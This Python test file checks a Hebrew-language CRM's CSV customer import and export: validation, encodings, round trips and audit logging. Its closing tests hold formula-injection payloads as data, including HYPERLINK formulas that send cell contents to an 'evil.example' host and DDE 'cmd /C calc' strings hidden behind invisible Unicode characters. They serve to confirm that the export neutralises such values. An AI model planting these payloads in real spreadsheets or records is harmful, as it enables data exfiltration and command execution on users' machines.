"""CSV import (all rows or none, per-row report) and export (UTF-8 with BOM, Hebrew intact)."""
from __future__ import annotations

import csv
import io

from server.models import Customer

HEADER_HE = "שם,טלפון,אימייל,הערות\n"


def _import(client, body: str | bytes, **params):
    data = body.encode("utf-8") if isinstance(body, str) else body
    return client.post("/api/crm/customers/import", data=data, content_type="text/csv", query_string=params)


def test_import_hebrew_csv_with_bom_and_any_phone_format(client, login_as, db):
    staff = login_as("staff")
    body = "\ufeff" + HEADER_HE + "דָּנָה כֹּהֵן,050-723-4567,Dana@Example.co.il,\"לקוחה, קבועה\"\n" \
                                  "יוסי לוי,+972 52 345 6789,,\n\n" \
                                  "מיכל,0544123456,michal@example.co.il,שורה שלישית\n"
    r = _import(client, body)
    assert r.status_code == 201, r.get_json()
    assert r.get_json()["imported"] == 3 and r.get_json()["rejected"] == []
    rows = {c.name: c for c in db.session.query(Customer).filter_by(business_id=staff.business_id)}
    assert rows["דָּנָה כֹּהֵן"].phone == "+972507234567" and rows["דָּנָה כֹּהֵן"].notes == "לקוחה, קבועה"
    assert rows["יוסי לוי"].phone == "+972523456789" and rows["יוסי לוי"].source == "import"
    listing = client.get("/api/crm/customers", query_string={"q": "דנה"}).get_json()
    assert listing["total"] == 1
    assert client.get("/api/crm/customers").get_json()["total"] == 3


def test_import_with_any_bad_row_writes_nothing_and_reports_each_row(client, login_as, make_customer, db):
    staff = login_as("staff")
    make_customer(staff.business, name="קיים", phone="+972585551234")
    body = HEADER_HE + ("טובה,0507234567,,\n"
                        ",0523456789,,\n"                   # row 3: no name
                        "רע,12345,not-an-email,\n"          # row 4: phone and email
                        "כפול,050-723-4567,,\n"              # row 5: same phone as row 2
                        "קיים שוב,058-555-1234,,\n")         # row 6: phone already in the business
    r = _import(client, body)
    assert r.status_code == 422
    report = r.get_json()
    assert report["error"] == "validation" and report["imported"] == 0
    assert report["rejected"] == [
        {"row": 3, "errors": {"name": "name required"}},
        {"row": 4, "errors": {"phone": "invalid phone number", "email": "invalid email"}},
        {"row": 5, "errors": {"phone": "same phone as row 2"}},
        {"row": 6, "errors": {"phone": "phone exists"}},
    ]
    assert db.session.query(Customer).count() == 1


def test_import_can_skip_existing_phones(client, login_as, make_customer, db):
    staff = login_as("staff")
    make_customer(staff.business, name="קיים", phone="+972585551234")
    r = _import(client, HEADER_HE + "חדש,0507234567,,\nקיים שוב,0585551234,,\n", on_duplicate="skip")
    assert r.status_code == 201
    assert r.get_json()["imported"] == 1 and r.get_json()["skipped"] == [{"row": 3, "reason": "phone exists"}]
    assert db.session.query(Customer).count() == 2


def test_import_english_headers_semicolons_and_windows_1255(client, login_as, db):
    login_as("staff")
    r = _import(client, "Name;Phone\nרחל;052-345-6789\n")
    assert r.status_code == 201 and r.get_json()["imported"] == 1
    r = _import(client, "שם,טלפון\nשרה,054-412-3456\n".encode("cp1255"))
    assert r.status_code == 201
    assert db.session.query(Customer).filter_by(name="שרה").one().phone == "+972544123456"


def test_import_without_name_column_or_empty_is_422(client, login_as, db):
    login_as("staff")
    r = _import(client, "טלפון\n0507234567\n")
    assert r.status_code == 422 and "file" in r.get_json()["fields"]
    assert _import(client, "").status_code == 422
    assert db.session.query(Customer).count() == 0


def test_import_row_limit(client, app, login_as, monkeypatch, db):
    from server.services.customers import csv_io
    login_as("staff")
    monkeypatch.setattr(csv_io, "IMPORT_MAX_ROWS", 2)
    r = _import(client, "שם\nא\nב\nג\n")
    assert r.status_code == 422 and "2" in r.get_json()["fields"]["file"]
    assert db.session.query(Customer).count() == 0


def test_import_as_multipart_file(client, login_as, db):
    login_as("staff")
    data = {"file": (io.BytesIO((HEADER_HE + "אבי,0537654321,,\n").encode("utf-8-sig")), "לקוחות.csv")}
    r = client.post("/api/crm/customers/import", data=data, content_type="multipart/form-data")
    assert r.status_code == 201 and r.get_json()["imported"] == 1


def test_export_is_utf8_bom_csv_of_the_current_search(client, login_as, make_customer):
    staff = login_as("viewer")
    make_customer(staff.business, name="דנה כהן", phone="+972507234567", email="dana@example.co.il", notes="שורה, עם פסיק")
    make_customer(staff.business, name="יוסי לוי", phone="+972523456789")
    r = client.get("/api/crm/customers/export", query_string={"q": "דנה"})
    assert r.status_code == 200
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in r.headers["Content-Disposition"]
    raw = r.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["מזהה", "שם", "טלפון", "אימייל", "הערות", "מקור", "נוצר"]
    assert [r[1:5] for r in rows[1:]] == [["דנה כהן", "050-723-4567", "dana@example.co.il", "שורה, עם פסיק"]]


def test_export_neutralises_formulas(client, login_as, make_customer):
    staff = login_as("staff")
    make_customer(staff.business, name="=HYPERLINK(\"http://evil\")", phone=None)
    rows = list(csv.reader(io.StringIO(client.get("/api/crm/customers/export").get_data().decode("utf-8-sig"))))
    assert rows[1][1].startswith("'=")


def test_csv_round_trip_between_businesses(client, login_as, make_business, make_customer, logout, db):
    source = login_as("staff")
    names = ["דָּנָה כֹּהֵן", "יוסי \"הגדול\" לוי", "=SUM(A1)", "מיכל"]
    phones = ["+972507234567", "+972523456789", None, "+14155550123"]
    for name, phone in zip(names, phones):
        make_customer(source.business, name=name, phone=phone, email=None, notes="הערה\nבשתי שורות")
    exported = client.get("/api/crm/customers/export").get_data()
    logout()
    target = login_as("staff", business=make_business("יעד"))
    r = _import(client, exported)
    assert r.status_code == 201, r.get_json()
    assert r.get_json()["imported"] == 4 and r.get_json()["ignored_columns"] == []
    copied = {c.name: c for c in db.session.query(Customer).filter_by(business_id=target.business_id)}
    assert set(copied) == set(names)
    for name, phone in zip(names, phones):
        assert copied[name].phone == phone and copied[name].notes == "הערה\nבשתי שורות"


def test_import_and_export_are_audited_with_counts_only(client, login_as, db):
    from server.models import AuditEntry
    staff = login_as("staff")
    _import(client, HEADER_HE + "אבי,0537654321,,\n")
    client.get("/api/crm/customers/export").get_data()
    entries = {e.action: e for e in db.session.query(AuditEntry).filter_by(entity_type="customer")}
    assert entries["import"].details == {"imported": 1, "skipped": 0}
    assert entries["import"].business_id == staff.business_id and entries["import"].actor_user_id == staff.id
    assert "export" in entries


# What a customer (or a lead created from a caller's WhatsApp name) may call themselves so
# that a spreadsheet opening the export runs it: a formula behind characters nobody sees.
HIDDEN_FORMULAS = [
    "\ufeff=HYPERLINK(\"http://evil.example/?\"&A1,\"דנה כהן\")",  # byte order mark
    "\u200b=cmd|' /C calc'!A0",                                # zero-width space
    "\u200f+972-50-1234567",                                   # right-to-left mark (Hebrew text)
    "\u202b-2+3 יוסי",                                         # right-to-left embedding
    "\u2066@SUM(1+1)*cmd|' /C calc'!A0",                       # first-strong isolate
    "\u2060\u00a0=1+1 מיכל",                                   # word joiner, no-break space
    "＝HYPERLINK(\"http://evil.example\",\"רונית\")",           # fullwidth equals sign
]
HARMLESS = ["דָּנָה כֹּהֵן", "\u200fאבי בן-דוד", "'שלום' כהן", "יעל - מספרה"]


def test_export_guards_a_formula_hidden_behind_invisible_characters(client, login_as):
    login_as("staff")
    for name in HIDDEN_FORMULAS + HARMLESS:
        r = client.post("/api/crm/customers", json={"name": name, "notes": name})
        assert r.status_code == 201, r.get_json()
    raw = client.get("/api/crm/customers/export").get_data().decode("utf-8-sig")
    cells = {row[1]: row[4] for row in list(csv.reader(io.StringIO(raw)))[1:]}
    for name in HIDDEN_FORMULAS:
        # A leading apostrophe is what makes a spreadsheet show the cell as text.
        assert "'" + name in cells, f"{name!r} exported unguarded"
        assert cells["'" + name] == "'" + name  # the notes column too
    for name in HARMLESS:
        assert cells[name] == name  # nothing to guard: exported as typed


def test_guarded_cells_come_back_unchanged_through_export_and_import(client, login_as, make_business, logout, db):
    login_as("staff")
    names = HIDDEN_FORMULAS + HARMLESS + ["'=SUM(A1)", "''+1 דנה"]  # apostrophes typed by the person stay
    for name in names:
        assert client.post("/api/crm/customers", json={"name": name}).status_code == 201
    exported = client.get("/api/crm/customers/export").get_data()
    logout()
    target = login_as("staff", business=make_business("יעד"))
    r = _import(client, exported)
    assert r.status_code == 201, r.get_json()
    copied = sorted(c.name for c in db.session.query(Customer).filter_by(business_id=target.business_id))
    assert copied == sorted(names)
